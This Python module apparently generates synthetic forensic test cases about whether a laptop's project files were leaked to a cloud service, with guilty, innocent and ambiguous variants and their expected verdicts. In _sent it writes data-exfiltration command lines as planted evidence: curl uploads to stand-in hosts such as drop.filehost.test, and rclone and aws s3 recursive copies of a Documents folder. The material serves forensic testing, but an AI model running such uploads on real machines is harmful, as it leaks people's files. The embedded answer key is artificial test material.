"""Cloud leak: a laptop with a browser, a shell and a synchronisation client; were files sent to a service outside?"""

from __future__ import annotations

from datetime import datetime, timedelta

from wigmore.generator import shown
from wigmore.generator.browser import chrome
from wigmore.generator.case import Case
from wigmore.generator.windows import office
from wigmore.generator.windows.computer import Computer

TITLE = "Cloud leak"
FRAME = "cloud_upload"
PACKED = "An archive was packed"  # bears on the packing, not on an upload
SOURCE, FOLDER = "src-laptop", "laptop"
HOSTS = ("drop.filehost.test", "transfer.quickfiles.test", "share.bigbox.test")
SITES = (
    ("https://news.example.com/", "Example News"),
    ("https://intranet.northwind-turbines.example.com/", "Intranet"),
    ("https://weather.example.org/today", "Weather today"),
)
HISTORY = "AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"


def build(case: Case) -> str:
    """Write the laptop; returns the case's description.

    Guilty: a copy program or a line of the shell sent a folder to a store, and in some the browser reports an upload; or the
    browser alone does. Innocent: the service's page was opened, files were fetched from it with browser or copy program, and
    the company's client synchronises. Ambiguous: the page for uploads was open and an archive with a password was made, but
    the browser's end is missing: history removed, or the visits belong to another device.
    """
    world, dice = case.world, case.world.random("cloud")
    way = dice.choice(("rclone", "curl", "aws", "browser"))
    innocent = dice.choice(("fetched", "backup fetched", "page only"))
    computer = Computer(case, SOURCE, FOLDER, world.laptop)
    host = dice.choice(HOSTS)
    at = world.at(dice.randrange(0, 8), f"{dice.randrange(9, 21):02d}:{dice.randrange(60):02d}:14")
    folder = f"C:\\Users\\{computer.account}\\Documents\\{world.project}"
    visits = [
        chrome.Visit(world.at(day, f"{dice.randrange(8, 18):02d}:07:31"), *dice.choice(SITES))
        for day in range(-15, 10)
        for _ in range(1 + case.noise // 40)
    ]
    visits.append(chrome.Visit(at, f"https://{host}/upload", "Upload files", chrome.TYPED | chrome.CHAIN_END, 200.0))
    downloads: list[chrome.Download] = []
    history = f"{computer.home}/AppData/Local/Google/Chrome/User Data/Default/History"
    shell = ["Get-ChildItem", "ipconfig /all", f"cd {folder}"]
    planted: list[tuple[str, str, str, tuple[str, ...]]] = []
    if case.variant == "guilty":
        if way == "browser" or dice.random() < 0.5:
            done = at + timedelta(minutes=4)
            title = f"Upload complete: {world.project}_export.7z"
            url = f"https://{host}/done?files=1"
            visits.append(chrome.Visit(done, url, title, chrome.FORM_SUBMIT | chrome.CHAIN_END))
            seen = (url, title, shown.webkit(done))
            planted.append(("The service reported an upload", history, "browser.chromium.visit", seen))
        if way != "browser":
            program, line = _sent(way, folder, host, world.project)
            _ran(computer, at + timedelta(minutes=9), program, line)
            shell.append(line)
            security = computer.log_path("Security")
            planted.append(("A command sent the folder to a store", security, "windows.eventlog", (line,)))
            planted.append(("The shell's history holds the line", f"{computer.home}/{HISTORY}", "history", (line,)))
    elif case.variant == "innocent":
        _fetched(case, computer, innocent, at, host, downloads, shell)
    else:
        line = f'"C:\\Program Files\\7-Zip\\7z.exe" a -p{world.password} {folder}.7z {folder}'
        _ran(computer, at - timedelta(minutes=12), "C:\\Program Files\\7-Zip\\7z.exe", line)
        if dice.random() < 0.5:  # the upload page stands in the history as another device's
            visits[-1] = chrome.Visit(at, f"https://{host}/done?files=1", "Upload complete", source=0)
            visits.append(chrome.Visit(at + timedelta(days=1), f"https://{host}/", "Share files"))
        else:  # what came after the packing was removed
            visits = [v for v in visits if v.at < at - timedelta(days=1)]
        planted.append((PACKED, computer.log_path("Security"), "windows.eventlog", (line,)))
        case.expect("collected_packed", "supported")
    chrome.history(case.place(FOLDER, history), visits, downloads)
    case.date(FOLDER, history, world.at(9, "17:30:00"))
    case.write(
        FOLDER, f"{computer.home}/{HISTORY}", "".join(f"{s}\r\n" for s in shell).encode(), world.at(9, "16:00:00")
    )
    _kept(case, computer)
    computer.close("NTUSER", "Security", "System")
    case.needs(SOURCE, history)
    if case.variant == "innocent":
        opened = (f"https://{host}/upload", shown.webkit(at))
        planted.append(("The page for uploads was open", history, "browser.chromium.visit", opened))
    for statement, path, artifact, values in planted:
        case.plant(statement, SOURCE, path, artifact, values, None if statement == PACKED else FRAME)
    drive = ("OneDrive", "OneDrive.exe")
    why = "the company's client synchronises by itself"
    case.decoy("The client sent the project out", why, SOURCE, f"{computer.home}/NTUSER.DAT", drive, FRAME)
    case.ask(f"Were files of {world.project} sent to a service outside?", FRAME, (host,) * (case.variant == "guilty"))
    verdicts = {"guilty": "supported", "innocent": "not_supported", "ambiguous": "cannot_say"}
    case.expect(FRAME, verdicts[case.variant])
    return f"Drawings of {world.project} turned up outside the company after {at:%Y-%m-%d}: were they sent from {world.laptop}?"


def _sent(way: str, folder: str, host: str, project: str) -> tuple[str, str]:
    """A program and its line that send a folder out."""
    if way == "rclone":
        return "C:\\Tools\\rclone.exe", f"rclone.exe copy {folder} vault:{project.lower()} --transfers 8"
    if way == "aws":
        program = "C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe"
        return program, f"aws s3 cp {folder} s3://{project.lower()}-store --recursive"
    return "C:\\Windows\\System32\\curl.exe", f"curl.exe -T {folder}.7z https://{host}/put/{project.lower()}.7z"


def _ran(computer: Computer, at: datetime, program: str, line: str) -> None:
    """A start in the Security log and in prefetch."""
    computer.log(office.started(at, computer.host, computer.account, computer.sid, program, line))
    computer.started(program[3:].upper(), [at], computer.dice.randrange(1, 5))


def _fetched(
    case: Case,
    computer: Computer,
    way: str,
    at: datetime,
    host: str,
    downloads: list[chrome.Download],
    shell: list[str],
) -> None:
    """Files came from the service: by the browser, or by a copy program that fetches a backup."""
    target = f"C:\\Users\\{computer.account}\\Downloads\\catalogue.zip"
    got = at + timedelta(minutes=2)
    if way != "page only":
        url = f"https://{host}/get/catalogue.zip"
        downloads.append(chrome.Download(got, got + timedelta(seconds=20), url, target, 8_400_000, "application/zip"))
    if way == "backup fetched":
        line = "rclone.exe copy vault:catalogues C:\\Data\\catalogues --transfers 4"
        _ran(computer, got + timedelta(minutes=5), "C:\\Tools\\rclone.exe", line)
        shell.append(line)
        log = computer.log_path("Security")
        why = "the store is the source and the disk the target: files came in"
        case.decoy("rclone sent files out", why, SOURCE, log, (line,), FRAME)


def _kept(case: Case, computer: Computer) -> None:
    """The project's files on the laptop."""
    dice = case.world.random("kept")
    for name in dice.sample(("drawings.pdf", "prices.xlsx", "tests.docx", "hub.step"), 3):
        content = dice.randbytes(dice.randrange(2_000, 9_000))
        path = f"{computer.home}/Documents/{case.world.project}/{name}"
        case.write(FOLDER, path, content, case.world.at(-30, "12:00:00"))
